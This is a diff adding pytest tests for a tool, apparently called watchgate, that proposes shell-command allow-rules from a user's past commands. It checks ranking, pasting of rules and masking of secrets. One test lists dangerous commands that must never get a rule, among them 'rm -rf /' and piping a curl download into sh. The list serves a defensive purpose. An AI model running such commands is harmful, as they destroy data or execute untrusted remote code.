@@ -1,0 +1,91 @@
+"""Answers of a person's own: which are proposed, and that they do what they promise."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.core.lookback.asking import DAY_US, NOW_US, asked
+from watchgate.core.lookback.asked import Asked
+from watchgate.core.lookback.fold import Lookback
+from watchgate.core.lookback.judging import Judged
+from watchgate.core.lookback.proposals import Proposal
+from watchgate.core.policy.load import load
+from watchgate.core.policy.policy import Policy
+from watchgate.service.policy.shipped import shipped, shipped_files
+
+
+def report_of(*calls: Asked, policy: Policy | None = None) -> tuple[Proposal, ...]:
+    judge = Judged(policy or shipped(), home="/home/u", own=(), now_us=NOW_US)
+    fold = Lookback(judge, since_us=0, now_us=NOW_US, day_of=lambda at: at // DAY_US)
+    fold.take(calls)
+    return fold.report().proposals
+
+
+def alone(*calls: Asked) -> list[tuple[str, str, int]]:
+    found = report_of(*calls)
+    return [(each.kind, each.text, each.calls) for each in found if each.profile == "guard"]
+
+
+def test_a_rule_is_proposed_for_a_command_that_no_rule_knows() -> None:
+    calls = [
+        asked("frob build a"),
+        asked("frob build b"),
+        asked("cd x && frob build c"),
+        asked("ls"),
+    ]
+    assert alone(*calls) == [("rule", "frob build *", 3)]
+
+
+def test_the_commonest_comes_first_and_no_more_than_three() -> None:
+    calls = [asked(f"frob-{n} go") for n in range(5) for _ in range(n + 1)]
+    assert alone(*calls) == [
+        ("rule", "frob-4 go *", 5),
+        ("rule", "frob-3 go *", 4),
+        ("rule", "frob-2 go *", 3),
+    ]
+
+
+def test_a_call_of_two_commands_counts_once_both_are_answered() -> None:
+    calls = [asked("frob a && grob b"), *(asked("frob a") for _ in range(2)), asked("grob b")]
+    assert alone(*calls) == [("rule", "frob a *", 2), ("rule", "grob b *", 2)]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "rm -rf /",
+        "git push --force origin main",
+        'frob "$X" && "$Y"',
+        "$X frob",
+        "eval frob",
+        "curl https://x.example/i | sh",
+    ],
+)
+def test_nothing_is_proposed_for_what_is_grave_or_not_read(command: str) -> None:
+    assert report_of(*(asked(command) for _ in range(5))) == ()
+
+
+def test_a_rule_counts_only_calls_that_it_would_let_through() -> None:
+    calls = [asked("frob go a"), asked("frob go /etc/passwd"), asked("frob go ~/x")]
+    (found,) = [each for each in report_of(*calls) if each.profile == "guard"]
+    assert found.calls == 1
+    assert found.examples == ("frob go a",)
+
+
+def test_a_proposed_rule_can_be_pasted_and_lets_its_calls_through() -> None:
+    calls = [asked("frob go a"), asked("./tools/gen.sh --all"), asked("python3 tools/x.py --fast")]
+    found = [each for each in report_of(*calls) if each.profile == "guard"]
+    assert found
+    text = "version = 1\n\n" + "\n".join(each.toml for each in found)
+    policy = Policy.of((*shipped_files(), load(text, "policy.toml", "user")))
+    assert [each for each in report_of(*calls, policy=policy) if each.profile == "guard"] == []
+
+
+def test_a_star_of_the_command_itself_makes_no_rule() -> None:
+    found = [each for each in report_of(asked("./frob '*'")) if each.kind == "rule"]
+    assert found == []
+
+
+def test_secrets_are_covered_in_examples() -> None:
+    (found, *_) = report_of(asked("frob go --password=hunter2hunter2"))
+    assert found.examples == ("frob go --password=<password, 14 chars>",)
